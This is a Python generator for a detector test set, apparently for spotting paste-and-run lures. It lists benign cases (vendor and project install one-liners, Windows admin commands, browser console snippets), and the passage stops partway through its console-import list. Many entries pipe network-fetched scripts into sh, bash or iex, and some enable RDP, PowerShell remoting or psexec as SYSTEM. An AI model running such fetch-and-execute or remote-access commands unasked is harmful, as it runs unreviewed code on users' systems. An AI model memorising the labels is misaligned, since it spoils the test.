"""Writes tests/data/cases/benign4.jsonl: more of what people really paste, each with the page
it was copied from and where it goes, and the look-alike lures beside each shape.

    python tests/data/cases/make_benign4.py

Deterministic: the same file every run. Written for issue 9's benign side by the helper
"benign4" from how projects, vendors and banks write these texts (READMEs, release pages, docs
sites, vendor admin docs, notebooks, CI files, messages), not from any blind set. Long-tail
projects, owners and companies are made up; real vendors appear where their documented command
is the point. Lures use reserved names (`*.test`, `*.example`, `*.invalid`) or look-alikes of
the vendor next to them. Each line is {id, text, expect, technique, platform, source, target}:

- `b4-own-*`: installers from their own project's page into a terminal (forges and their pages
  sites, sourcehut, self-hosted forges, a project's `get.`/`install.` hosts, a CDN or object
  store whose name is the project's, release assets, package-manager bootstraps): not flagged,
  never blocked;
- `b4-quoted-*`, `b4-admin-*`, `b4-console-*`, `b4-runbox-*`, `b4-msg-*`, `b4-prose-*`,
  `b4-config-*`: tutorials and Q&A answers, vendor admin PowerShell, console snippets, Run-box and
  Explorer entries, genuine messages with phone numbers, security write-ups, configuration, logs,
  notebooks: not flagged;
- `b4-lure-*`: the look-alike each clearing must not reach (a stranger's host, a typosquat, a
  fake check page, the Run box, a bucket or CDN path naming someone else): flagged or malicious.
"""

from __future__ import annotations

from pathlib import Path

OUT = Path(__file__).with_name("benign4.jsonl")
BENIGN = "none"
LURE = "T1204.004"

Case = dict[str, str]


def case(
    cid: str, text: str, expect: str, technique: str, platform: str, source: str | None, target: str
) -> Case:
    out = {"id": cid, "text": text, "expect": expect, "technique": technique, "platform": platform}
    if source is not None:
        out["source"] = source
    out["target"] = target
    return out


# Long-tail GitHub projects with made-up owners: (owner, repository, program).
GITHUB = [
    ("fenwick-labs", "fenwick", "fenwick"),
    ("mossbank", "mossctl", "mossctl"),
    ("tidewater-oss", "tidepool", "tidepool"),
    ("grebe-dev", "grebe", "grebe"),
    ("lanternfish", "lfsh", "lfsh"),
    ("corvid-works", "corvid-cli", "corvid"),
    ("hazelnut-io", "hazel", "hazel"),
    ("quillon", "quill-agent", "quill-agent"),
    ("bracken-hq", "brk", "brk"),
    ("starling-tools", "starling", "starling"),
    ("umbra-soft", "umbrafs", "umbrafs"),
    ("whinchat", "chatops-kit", "chatops"),
]
# Projects with their own domain and a download host under it: (site page, script URL).
OWN_DOMAIN = [
    ("https://pelagic.dev/docs/install", "https://get.pelagic.dev"),
    ("https://www.kestrelci.io/getting-started", "https://install.kestrelci.io/install.sh"),
    ("https://docs.runnel.sh/quickstart", "https://runnel.sh/install.sh"),
    ("https://lumenvault.com/download/linux", "https://downloads.lumenvault.com/cli/install.sh"),
    ("https://driftline.app/docs/cli", "https://cli.driftline.app/install"),
    ("https://www.cinderhq.co.uk/docs/agent", "https://packages.cinderhq.co.uk/agent/install.sh"),
    ("https://marlin-db.org/download", "https://dl.marlin-db.org/install.sh"),
    ("https://gannet.build/", "https://gannet.build/install.sh"),
    ("https://docs.basalt.cloud/cli/install", "https://get.basalt.cloud/cli.sh"),
    ("https://sandpiper.tech/docs/self-hosting", "https://releases.sandpiper.tech/install.sh"),
]


def own_pages() -> list[Case]:
    out: list[Case] = []
    n = 0

    def add(text: str, source: str, platform: str = "linux", target: str = "terminal") -> None:
        nonlocal n
        n += 1
        out.append(
            case(
                f"b4-own-{n:03d}", text, "not_flagged", "benign-own-page", platform, source, target
            )
        )

    for owner, repo, prog in GITHUB:
        readme = f"https://github.com/{owner}/{repo}"
        add(
            f"curl -fsSL https://raw.githubusercontent.com/{owner}/{repo}/main/install.sh | sh",
            f"{readme}#installation",
        )
        add(
            f"curl -fsSL https://github.com/{owner}/{repo}/releases/latest/download/install.sh "
            f"| bash -s -- --prefix ~/.local",
            f"{readme}/releases",
        )
        add(
            f"irm https://raw.githubusercontent.com/{owner}/{repo}/main/install.ps1 | iex",
            readme,
            "windows",
        )
        add(
            f'$v = "1.4.2"; iwr "https://github.com/{owner}/{repo}/releases/download/v$v/'
            f'{prog}-windows-amd64.zip" -OutFile "$env:TEMP\\{prog}.zip"; Expand-Archive '
            f'"$env:TEMP\\{prog}.zip" "$env:LOCALAPPDATA\\{prog}" -Force',
            f"{readme}/releases/tag/v1.4.2",
            "windows",
        )
        add(
            f"curl -fsSL https://{owner}.github.io/{repo}/install.sh | sh",
            f"https://{owner}.github.io/{repo}/",
        )
        add(
            f'sh -c "$(curl -fsSL https://raw.githubusercontent.com/{owner}/{repo}/HEAD/'
            f'scripts/install.sh)"',
            f"{readme}/blob/main/README.md",
            "macos",
        )
        add(
            f"wget -qO- https://github.com/{owner}/{repo}/releases/download/v0.9.0/"
            f"{prog}_0.9.0_linux_amd64.tar.gz | sudo tar -xz -C /usr/local/bin {prog}",
            f"{readme}/releases/tag/v0.9.0",
        )
        add(
            f"bash <(curl -sL https://raw.githubusercontent.com/{owner}/{repo}/main/"
            f"install.sh) --no-modify-path",
            f"https://{owner}.github.io/{repo}/docs/install/",
        )
    # GitLab, Codeberg, sourcehut, self-hosted forges
    for owner, repo, _ in GITHUB[:6]:
        add(
            f"curl -sSL https://gitlab.com/{owner}/{repo}/-/raw/main/install.sh | bash",
            f"https://gitlab.com/{owner}/{repo}",
        )
        add(
            f"curl -sSfL https://codeberg.org/{owner}/{repo}/raw/branch/main/install.sh | sh",
            f"https://codeberg.org/{owner}/{repo}",
        )
        add(
            f"curl -sSf https://git.sr.ht/~{owner}/{repo}/blob/main/install.sh | sh",
            f"https://git.sr.ht/~{owner}/{repo}",
        )
        add(
            f"curl -fsSL https://{owner}.gitlab.io/{repo}/install.sh | sh",
            f"https://{owner}.gitlab.io/{repo}/",
        )
        add(
            f"curl -fsSL https://git.{repo}.org/{owner}/{repo}/raw/branch/main/install.sh | sh",
            f"https://git.{repo}.org/{owner}/{repo}",
        )
    for page, script in OWN_DOMAIN:
        add(f"curl -fsSL {script} | sh", page)
        add(f"curl --proto '=https' --tlsv1.2 -sSf {script} | sh -s -- -y", page, "macos")
        add(f"wget -qO- {script} | sudo bash", page)
        if script.endswith(".sh"):
            ps1 = script.removesuffix(".sh") + ".ps1"
        else:
            ps1 = script.rstrip("/") + "/install.ps1"
        add(f'powershell -ExecutionPolicy ByPass -c "irm {ps1} | iex"', page, "windows")
    return out


# Well-known tools documented on their own pages; a few of them outside the trust list.
VENDORS = [
    ("https://pulumi.com/docs/install/", "curl -fsSL https://get.pulumi.com | sh", "linux"),
    (
        "https://www.pulumi.com/docs/iac/download-install/",
        '@"%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile '
        '-InputFormat None -ExecutionPolicy Bypass -Command "[Net.ServicePointManager]::'
        "SecurityProtocol = 'tls12'; iex ((New-Object System.Net.WebClient).DownloadString("
        "'https://get.pulumi.com/install.ps1')) && SET \"PATH=%PATH%;%USERPROFILE%\\.pulumi\\bin\"",
        "windows",
    ),
    (
        "https://docs.doppler.com/docs/install-cli",
        '(curl -Ls --tlsv1.2 --proto "=https" --retry 3 https://cli.doppler.com/install.sh || '
        "wget -t 3 -qO- https://cli.doppler.com/install.sh) | sudo sh",
        "linux",
    ),
    (
        "https://goteleport.com/docs/installation/",
        "curl https://cdn.teleport.dev/install.sh | bash -s 16.4.6",
        "linux",
    ),
    (
        "https://docs.dagger.io/install",
        "curl -fsSL https://dl.dagger.io/dagger/install.sh | BIN_DIR=$HOME/.local/bin sh",
        "linux",
    ),
    (
        "https://fluxcd.io/flux/installation/",
        "curl -s https://fluxcd.io/install.sh | sudo bash",
        "linux",
    ),
    (
        "https://linkerd.io/2.16/getting-started/",
        "curl --proto '=https' --tlsv1.2 -sSfL https://run.linkerd.io/install-edge | sh",
        "linux",
    ),
    (
        "https://istio.io/latest/docs/setup/getting-started/",
        "curl -L https://istio.io/downloadIstio | sh -",
        "linux",
    ),
    ("https://docs.rke2.io/install/quickstart", "curl -sfL https://get.rke2.io | sh -", "linux"),
    (
        "https://www.zerotier.com/download/",
        "curl -s https://install.zerotier.com | sudo bash",
        "linux",
    ),
    (
        "https://docs.netbird.io/how-to/installation",
        "curl -fsSL https://pkgs.netbird.io/install.sh | sh",
        "linux",
    ),
    (
        "https://jellyfin.org/docs/general/installation/linux/",
        "curl https://repo.jellyfin.org/install-debuntu.sh | sudo bash",
        "linux",
    ),
    (
        "https://yunohost.org/en/install/hardware:vps_debian",
        "curl https://install.yunohost.org | bash",
        "linux",
    ),
    (
        "https://runtipi.io/docs/getting-started/installation",
        "curl -L https://setup.runtipi.io | bash",
        "linux",
    ),
    ("https://umbrel.com/umbrelos", "curl -L https://umbrel.sh | bash", "linux"),
    (
        "https://docs.modular.com/max/get-started",
        "curl -ssL https://magic.modular.com/deb1f3d5-0e52-4bbd-a0b5-cbd3f8ad5b6e | bash",
        "linux",
    ),
    (
        "https://tilt.dev/",
        "curl -fsSL https://raw.githubusercontent.com/tilt-dev/tilt/master/scripts/install.sh | bash",
        "linux",
    ),
    (
        "https://docs.tilt.dev/install.html",
        "iex ((new-object net.webclient).DownloadString('https://raw.githubusercontent.com/tilt-dev/"
        "tilt/master/scripts/install.ps1'))",
        "windows",
    ),
    (
        "https://k3d.io/stable/",
        "wget -q -O - https://raw.githubusercontent.com/k3d-io/k3d/main/install.sh | bash",
        "linux",
    ),
    (
        "https://kind.sigs.k8s.io/docs/user/quick-start/",
        "[ $(uname -m) = x86_64 ] && curl -Lo ./kind https://kind.sigs.k8s.io/dl/v0.24.0/"
        "kind-linux-amd64 && chmod +x ./kind && sudo mv ./kind /usr/local/bin/kind",
        "linux",
    ),
    (
        "https://minikube.sigs.k8s.io/docs/start/",
        "curl -LO https://storage.googleapis.com/minikube/releases/latest/minikube-linux-amd64\n"
        "sudo install minikube-linux-amd64 /usr/local/bin/minikube && rm minikube-linux-amd64",
        "linux",
    ),
    (
        "https://sdkman.io/install/",
        'curl -s "https://get.sdkman.io" | bash\n'
        'source "$HOME/.sdkman/bin/sdkman-init.sh"\nsdk install java 21.0.5-tem',
        "linux",
    ),
    (
        "https://asdf-vm.com/guide/getting-started.html",
        "git clone https://github.com/asdf-vm/asdf.git ~/.asdf --branch v0.14.1\n"
        '. "$HOME/.asdf/asdf.sh"',
        "linux",
    ),
    ("https://volta.sh/", "curl https://get.volta.sh | bash", "macos"),
    (
        "https://pnpm.io/installation",
        "Invoke-WebRequest https://get.pnpm.io/install.ps1 -UseBasicParsing | Invoke-Expression",
        "windows",
    ),
    (
        "https://mise.jdx.dev/getting-started.html",
        "curl https://mise.run | sh\necho 'eval \"$(~/.local/bin/mise activate bash)\"' >> ~/.bashrc",
        "linux",
    ),
    ("https://github.com/pyenv/pyenv-installer", "curl https://pyenv.run | bash", "linux"),
    (
        "https://github.com/nvm-sh/nvm#installing-and-updating",
        "wget -qO- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash",
        "linux",
    ),
    (
        "https://scoop.sh/",
        "Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser\n"
        "Invoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression",
        "windows",
    ),
    (
        "https://zero-to-nix.com/start/install",
        "curl --proto '=https' --tlsv1.2 -sSf -L https://install.determinate.systems/nix | sh -s "
        "-- install",
        "macos",
    ),
    (
        "https://nixos.org/download/",
        "sh <(curl -L https://nixos.org/nix/install) --daemon",
        "linux",
    ),
    (
        "https://helm.sh/docs/intro/install/",
        "curl -fsSL -o get_helm.sh https://raw.githubusercontent.com/helm/helm/main/scripts/"
        "get-helm-3\nchmod 700 get_helm.sh\n./get_helm.sh",
        "linux",
    ),
    (
        "https://docs.docker.com/engine/install/ubuntu/",
        "sudo install -m 0755 -d /etc/apt/keyrings\nsudo curl -fsSL https://download.docker.com/"
        "linux/ubuntu/gpg -o /etc/apt/keyrings/docker.asc\nsudo chmod a+r /etc/apt/keyrings/"
        "docker.asc",
        "linux",
    ),
    (
        "https://docs.docker.com/desktop/setup/install/windows-install/",
        'Start-Process "Docker Desktop Installer.exe" -Verb RunAs -Wait -ArgumentList "install '
        '--accept-license"',
        "windows",
    ),
    (
        "https://caddyserver.com/docs/install#debian-ubuntu-raspbian",
        "curl -1sLf 'https://dl.cloudsmith.io/public/caddy/stable/gpg.key' | sudo gpg --dearmor "
        "-o /usr/share/keyrings/caddy-stable-archive-keyring.gpg",
        "linux",
    ),
    (
        "https://www.jenkins.io/doc/book/installing/linux/",
        "sudo wget -O /usr/share/keyrings/jenkins-keyring.asc https://pkg.jenkins.io/debian-stable/"
        "jenkins.io-2023.key",
        "linux",
    ),
    (
        "https://www.elastic.co/guide/en/elasticsearch/reference/current/deb.html",
        "wget -qO - https://artifacts.elastic.co/GPG-KEY-elasticsearch | sudo gpg --dearmor -o "
        "/usr/share/keyrings/elasticsearch-keyring.gpg",
        "linux",
    ),
    (
        "https://www.mongodb.com/docs/manual/tutorial/install-mongodb-on-ubuntu/",
        "curl -fsSL https://www.mongodb.org/static/pgp/server-8.0.asc | sudo gpg -o "
        "/usr/share/keyrings/mongodb-server-8.0.gpg --dearmor",
        "linux",
    ),
    (
        "https://www.postgresql.org/download/linux/ubuntu/",
        "sudo apt install -y postgresql-common\nsudo /usr/share/postgresql-common/pgdg/"
        "apt.postgresql.org.sh",
        "linux",
    ),
    (
        "https://www.sublimetext.com/docs/linux_repositories.html",
        "wget -qO - https://download.sublimetext.com/sublimehq-pub.gpg | gpg --dearmor | sudo tee "
        "/etc/apt/trusted.gpg.d/sublimehq-archive.gpg > /dev/null",
        "linux",
    ),
    ("https://brave.com/linux/", "curl -fsS https://dl.brave.com/install.sh | sh", "linux"),
    (
        "https://apt.syncthing.net/",
        "sudo curl -L -o /etc/apt/keyrings/syncthing-archive-keyring.gpg "
        "https://syncthing.net/release-key.gpg",
        "linux",
    ),
    (
        "https://www.spotify.com/us/download/linux/",
        "curl -sS https://download.spotify.com/debian/pubkey_C85668DF69375001.gpg | sudo gpg "
        "--dearmor --yes -o /etc/apt/trusted.gpg.d/spotify.gpg",
        "linux",
    ),
    (
        "https://code.visualstudio.com/docs/setup/linux",
        "wget -qO- https://packages.microsoft.com/keys/microsoft.asc | gpg --dearmor > "
        "packages.microsoft.gpg",
        "linux",
    ),
    (
        "https://cloud.google.com/sdk/docs/install#windows",
        '(New-Object Net.WebClient).DownloadFile("https://dl.google.com/dl/cloudsdk/channels/'
        'rapid/GoogleCloudSDKInstaller.exe", "$env:Temp\\GoogleCloudSDKInstaller.exe")\n'
        "& $env:Temp\\GoogleCloudSDKInstaller.exe",
        "windows",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/userguide/getting-started-install.html",
        'curl "https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip" -o "awscliv2.zip"\n'
        "unzip awscliv2.zip\nsudo ./aws/install",
        "linux",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/userguide/getting-started-install.html",
        "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi",
        "windows",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/install-azure-cli-windows",
        "$ProgressPreference = 'SilentlyContinue'; Invoke-WebRequest -Uri https://aka.ms/"
        "installazurecliwindowsx64 -OutFile .\\AzureCLI.msi; Start-Process msiexec.exe -Wait "
        "-ArgumentList '/I AzureCLI.msi /quiet'; Remove-Item .\\AzureCLI.msi",
        "windows",
    ),
    (
        "https://learn.microsoft.com/en-us/azure/azure-arc/servers/onboard-powershell",
        'Invoke-WebRequest -Uri "https://aka.ms/azcmagent-windows" -TimeoutSec 30 -OutFile '
        '"$env:TEMP\\install_windows_azcmagent.ps1"; & "$env:TEMP\\install_windows_azcmagent.ps1"',
        "windows",
    ),
    (
        "https://docs.aws.amazon.com/systems-manager/latest/userguide/manually-install-ssm-agent-"
        "windows.html",
        "[System.Net.ServicePointManager]::SecurityProtocol = 'TLS12'\n$progressPreference = "
        "'silentlyContinue'\nInvoke-WebRequest https://s3.amazonaws.com/ec2-downloads-windows/"
        "SSMAgent/latest/windows_amd64/AmazonSSMAgentSetup.exe -OutFile $env:USERPROFILE\\Desktop"
        "\\SSMAgent_latest.exe\nStart-Process -FilePath $env:USERPROFILE\\Desktop\\"
        'SSMAgent_latest.exe -ArgumentList "/S"',
        "windows",
    ),
    (
        "https://docs.aws.amazon.com/eks/latest/userguide/setting-up.html",
        'curl -sLO "https://github.com/eksctl-io/eksctl/releases/latest/download/eksctl_Linux_'
        'amd64.tar.gz"\ntar -xzf eksctl_Linux_amd64.tar.gz -C /tmp && rm eksctl_Linux_amd64.tar.gz'
        "\nsudo mv /tmp/eksctl /usr/local/bin",
        "linux",
    ),
    (
        "https://cloud.google.com/sdk/docs/install#deb",
        "curl https://packages.cloud.google.com/apt/doc/apt-key.gpg | sudo gpg --dearmor -o "
        "/usr/share/keyrings/cloud.google.gpg",
        "linux",
    ),
    (
        "https://www.terraform.io/downloads",
        "wget -O - https://apt.releases.hashicorp.com/gpg | sudo gpg --dearmor -o "
        "/usr/share/keyrings/hashicorp-archive-keyring.gpg",
        "linux",
    ),
    (
        "https://developer.1password.com/docs/cli/get-started/",
        "curl -sS https://downloads.1password.com/linux/keys/1password.asc | sudo gpg --dearmor "
        "--output /usr/share/keyrings/1password-archive-keyring.gpg",
        "linux",
    ),
    (
        "https://docs.stripe.com/stripe-cli",
        "curl -s https://packages.stripe.dev/api/security/keypair/stripe-cli-gpg/public | gpg "
        "--dearmor | sudo tee /usr/share/keyrings/stripe.gpg",
        "linux",
    ),
    (
        "https://github.com/junegunn/fzf#using-git",
        "git clone --depth 1 https://github.com/junegunn/fzf.git ~/.fzf\n~/.fzf/install",
        "linux",
    ),
    (
        "https://ohmyz.sh/#install",
        'sh -c "$(wget https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh '
        '-O -)"',
        "linux",
    ),
    (
        "https://docs.atuin.sh/guide/installation/",
        "curl --proto '=https' --tlsv1.2 -LsSf https://setup.atuin.sh | sh",
        "linux",
    ),
    (
        "https://code-server.dev/",
        "curl -fsSL https://code-server.dev/install.sh | sh -s -- --dry-run",
        "linux",
    ),
    (
        "https://docs.openwebui.com/getting-started/quick-start/",
        "docker run -d -p 3000:8080 --add-host=host.docker.internal:host-gateway -v "
        "open-webui:/app/backend/data --name open-webui --restart always "
        "ghcr.io/open-webui/open-webui:main",
        "linux",
    ),
    (
        "https://docs.portainer.io/start/install-ce/server/docker/linux",
        "docker volume create portainer_data\ndocker run -d -p 8000:8000 -p 9443:9443 --name "
        "portainer --restart=always -v /var/run/docker.sock:/var/run/docker.sock -v "
        "portainer_data:/data portainer/portainer-ce:2.21.4",
        "linux",
    ),
    (
        "https://huggingface.co/docs/huggingface_hub/installation",
        "curl -LsSf https://hf.co/cli/install.sh | bash",
        "linux",
    ),
    ("https://www.warp.dev/download", "winget install Warp.Warp", "windows"),
    (
        "https://flatpak.org/setup/Ubuntu",
        "sudo add-apt-repository ppa:flatpak/stable\nsudo apt update\nsudo apt install flatpak",
        "linux",
    ),
    (
        "https://rpmfusion.org/Configuration",
        "sudo dnf install https://mirrors.rpmfusion.org/free/fedora/rpmfusion-free-release-"
        "$(rpm -E %fedora).noarch.rpm",
        "linux",
    ),
    (
        "https://copr.fedorainfracloud.org/coprs/atim/starship/",
        "sudo dnf copr enable atim/starship && sudo dnf install starship",
        "linux",
    ),
    (
        "https://aur.archlinux.org/packages/yay",
        "sudo pacman -S --needed git base-devel && git clone https://aur.archlinux.org/yay.git && "
        "cd yay && makepkg -si",
        "linux",
    ),
    ("https://pypi.org/project/httpie/", "pipx install httpie", "linux"),
    (
        "https://www.npmjs.com/package/create-vite",
        "npm create vite@latest my-app -- --template react-ts",
        "linux",
    ),
    ("https://bun.sh/docs/cli/bunx", "bunx cowsay 'Hello, world!'", "macos"),
    ("https://docs.astral.sh/ruff/installation/", "uvx ruff check", "linux"),
    (
        "https://sourceforge.net/projects/sevenzip/files/",
        "winget install --id 7zip.7zip --source winget",
        "windows",
    ),
    (
        "https://launchpad.net/~deadsnakes/+archive/ubuntu/ppa",
        "sudo add-apt-repository ppa:deadsnakes/ppa && sudo apt install python3.12",
        "linux",
    ),
    (
        "https://gitee.com/mindspore/mindspore",
        "pip install mindspore -i https://pypi.tuna.tsinghua.edu.cn/simple",
        "linux",
    ),
    (
        "https://colab.research.google.com/github/huggingface/notebooks/blob/main/"
        "transformers_doc/en/quicktour.ipynb",
        "!pip install -q transformers datasets evaluate accelerate",
        "linux",
    ),
    (
        "https://docs.openhands.dev/usage/local-setup",
        "curl -fsSL https://install.openhands.dev/install.sh | sh",
        "linux",
    ),
    (
        "https://bitwarden.com/help/install-on-premise-linux/",
        'curl -Lso bitwarden.sh "https://func.bitwarden.com/api/dl/?app=self-host&platform=linux"'
        " && chmod 700 bitwarden.sh\n./bitwarden.sh install",
        "linux",
    ),
    (
        "https://docs.mailcow.email/getstarted/install/",
        "umask 0022\ncd /opt\ngit clone https://github.com/mailcow/mailcow-dockerized\n"
        "cd mailcow-dockerized\n./generate_config.sh",
        "linux",
    ),
    (
        "https://forgejo.org/docs/latest/admin/installation/binary/",
        "wget https://codeberg.org/forgejo/forgejo/releases/download/v9.0.2/forgejo-9.0.2-linux-"
        "amd64\nchmod +x forgejo-9.0.2-linux-amd64",
        "linux",
    ),
    (
        "https://gitea.com/gitea/act_runner/releases",
        "curl -sL https://gitea.com/gitea/act_runner/releases/download/v0.2.11/act_runner-0.2.11-"
        "linux-amd64 -o act_runner && chmod +x act_runner && ./act_runner register",
        "linux",
    ),
]


def vendors() -> list[Case]:
    out = []
    for i, (page, text, platform) in enumerate(VENDORS, 1):
        out.append(
            case(
                f"b4-vendor-{i:03d}",
                text,
                "not_flagged",
                "benign-own-page",
                platform,
                page,
                "terminal",
            )
        )
    return out


# Installers quoted by tutorials and Q&A answers (pages on other domains that name the tool).
QUOTED = [
    (
        "https://www.digitalocean.com/community/tutorials/how-to-install-and-use-docker-on-ubuntu-"
        "22-04",
        "curl -fsSL https://download.docker.com/linux/ubuntu/gpg | sudo gpg --dearmor -o "
        "/usr/share/keyrings/docker-archive-keyring.gpg",
        "linux",
    ),
    (
        "https://linuxize.com/post/how-to-install-pulumi-on-ubuntu/",
        "curl -fsSL https://get.pulumi.com | sh",
        "linux",
    ),
    (
        "https://dev.to/someuser/setting-up-k3s-on-a-raspberry-pi-cluster-4kd2",
        "curl -sfL https://get.k3s.io | K3S_URL=https://192.168.1.50:6443 K3S_TOKEN=mynodetoken "
        "sh -",
        "linux",
    ),
    (
        "https://www.howtogeek.com/how-to-install-zerotier-on-linux/",
        "curl -s https://install.zerotier.com | sudo bash",
        "linux",
    ),
    (
        "https://superuser.com/questions/1776503/install-scoop-as-administrator",
        'iex "& {$(irm get.scoop.sh)} -RunAsAdmin"',
        "windows",
    ),
    (
        "https://github.com/orgs/community/discussions/12345",
        "curl -fsSL https://cli.github.com/packages/githubcli-archive-keyring.gpg | sudo dd "
        "of=/usr/share/keyrings/githubcli-archive-keyring.gpg",
        "linux",
    ),
    (
        "https://serverfault.com/questions/1151234/installing-teleport-agent-on-debian",
        "curl https://cdn.teleport.dev/install.sh | bash -s 16.4.6",
        "linux",
    ),
    (
        "https://medium.com/@someone/self-hosting-jellyfin-on-ubuntu-24-04-9a1b2c3d",
        "curl https://repo.jellyfin.org/install-debuntu.sh | sudo bash",
        "linux",
    ),
    (
        "https://www.reddit.com/r/selfhosted/comments/1abcd2/runtipi_is_great/",
        "curl -L https://setup.runtipi.io | bash",
        "linux",
    ),
]


def quoted() -> list[Case]:
    return [
        case(f"b4-quoted-{i:03d}", text, "not_flagged", "benign-quoted", platform, page, "terminal")
        for i, (page, text, platform) in enumerate(QUOTED, 1)
    ]


# Vendor admin commands (Microsoft Learn, AWS, Google Cloud) into an admin terminal.
ADMIN = [
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/openssh/openssh_install_"
        "firstuse",
        "Add-WindowsCapability -Online -Name OpenSSH.Server~~~~0.0.1.0\n"
        "Start-Service sshd\nSet-Service -Name sshd -StartupType 'Automatic'",
    ),
    ("https://learn.microsoft.com/en-us/windows/wsl/install", "wsl --install -d Ubuntu-24.04"),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_"
        "execution_policies",
        "Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/microsoftgraph/installation",
        "Install-Module Microsoft.Graph -Scope CurrentUser -Repository PSGallery -Force",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/exchange/connect-to-exchange-online-powershell",
        "Import-Module ExchangeOnlineManagement\nConnect-ExchangeOnline -UserPrincipalName "
        "admin@contoso.onmicrosoft.com",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-hardware/manufacture/desktop/repair-a-windows-"
        "image",
        "DISM /Online /Cleanup-Image /RestoreHealth\nsfc /scannow",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/client-management/client-tools/connect-to-remote-"
        "aadj-pc",
        "Set-ItemProperty -Path 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal "
        'Server\' -Name "fDenyTSConnections" -Value 0\nEnable-NetFirewallRule -DisplayGroup '
        '"Remote Desktop"',
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/scripting/security/remoting/winrm-security",
        "Enable-PSRemoting -Force\nSet-Item WSMan:\\localhost\\Client\\TrustedHosts -Value "
        "'srv01.corp.contoso.com'",
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-client/networking/reset-tcp-ip",
        "netsh int ip reset\nnetsh winsock reset\nipconfig /flushdns",
    ),
    (
        "https://learn.microsoft.com/en-us/defender-endpoint/run-analyzer-windows",
        "Get-MpComputerStatus | Select-Object AMRunningMode, RealTimeProtectionEnabled",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/deployment/update/windows-update-logs",
        "Get-WindowsUpdateLog -LogPath C:\\Temp\\WindowsUpdate.log",
    ),
    (
        "https://learn.microsoft.com/en-us/microsoft-365/enterprise/connect-to-microsoft-365-"
        "powershell",
        "Install-Module -Name Microsoft.Online.SharePoint.PowerShell\n"
        "Connect-SPOService -Url https://contoso-admin.sharepoint.com",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/security/operating-system-security/data-"
        "protection/bitlocker/operations-guide",
        "manage-bde -status C:\nGet-BitLockerVolume | Format-List",
    ),
    (
        "https://learn.microsoft.com/en-us/intune/intune-service/apps/intune-management-extension",
        "Get-ChildItem -Path 'HKLM:\\SOFTWARE\\Microsoft\\IntuneManagementExtension\\Win32Apps' "
        "-Recurse | Select-Object Name",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/robocopy",
        "robocopy \\\\fs01\\projects D:\\Backup\\projects /MIR /Z /R:2 /W:5 /LOG:C:\\Temp\\rc.log",
    ),
    (
        "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/ec2launch-v2-install.html",
        "Invoke-WebRequest -Uri https://s3.amazonaws.com/amazon-ec2launch-v2/windows/amd64/latest/"
        "AmazonEC2Launch.msi -OutFile $env:USERPROFILE\\Desktop\\EC2Launchv2\\AmazonEC2Launch.msi",
    ),
    (
        "https://cloud.google.com/compute/docs/instances/windows/creating-passwords-for-windows-"
        "instances",
        "gcloud compute reset-windows-password my-instance --zone us-central1-a --user admin",
    ),
    (
        "https://learn.microsoft.com/en-us/azure/virtual-machines/windows/ps-common-ref",
        "Connect-AzAccount -UseDeviceAuthentication\nGet-AzVM -ResourceGroupName myResourceGroup",
    ),
    (
        "https://learn.microsoft.com/en-us/sysinternals/downloads/psexec",
        "psexec \\\\marklap -s -i cmd",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil",
        "certutil -hashfile C:\\Users\\me\\Downloads\\setup.exe SHA256",
    ),
]


def admin() -> list[Case]:
    return [
        case(f"b4-admin-{i:03d}", text, "not_flagged", "benign-admin", "windows", page, "terminal")
        for i, (page, text) in enumerate(ADMIN, 1)
    ]


# Console snippets developers run in the browser's DevTools, from the page that documents them.
CONSOLE = [
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "copy($$('a').map(a => a.href).join('\\n'))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/designMode",
        "document.designMode = 'on'",
    ),
    (
        "https://web.dev/articles/lcp",
        "new PerformanceObserver((entryList) => {\n  for (const "
        "entry of entryList.getEntries()) {\n    console.log('LCP candidate:', entry.startTime, "
        "entry);\n  }\n}).observe({type: 'largest-contentful-paint', buffered: true});",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/ServiceWorkerContainer/getRegistrations",
        "navigator.serviceWorker.getRegistrations().then(rs => rs.forEach(r => r.unregister()))",
    ),
    (
        "https://docs.github.com/en/rest/quickstart",
        "fetch('https://api.github.com/repos/octocat/hello-world').then(r => r.json())"
        ".then(console.log)",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/reference",
        "console.table(performance.getEntriesByType('resource').map(r => ({name: r.name, "
        "ms: Math.round(r.duration)})))",
    ),
    ("https://react.dev/learn/react-developer-tools", "$r.props"),
]
# A module imported into the console from a package CDN, from the package's own page: still
# flagged on purpose. The imported code runs with the open tab's session, whoever wrote the page
# it was copied from (a README is where console self-XSS tools advertise too), and nothing in
# the pasted text says what the module does.
CONSOLE_IMPORTS = [
    (
        "https://lodash.com/docs/",
        "const _ = await import('https://cdn.jsdelivr.net/npm/"
        "lodash-es@4.17.21/+esm'); _.chunk([1,2,3,4], 2)",
    ),
    (
        "https://github.com/GoogleChrome/web-vitals#load-web-vitals-from-a-cdn",
        "import('https://unpkg.com/web-vitals@4?module').then(({onCLS, onINP, onLCP}) => {\n"
        "  onCLS(console.log); onINP(console.log); onLCP(console.log);\n});",
    ),
    (
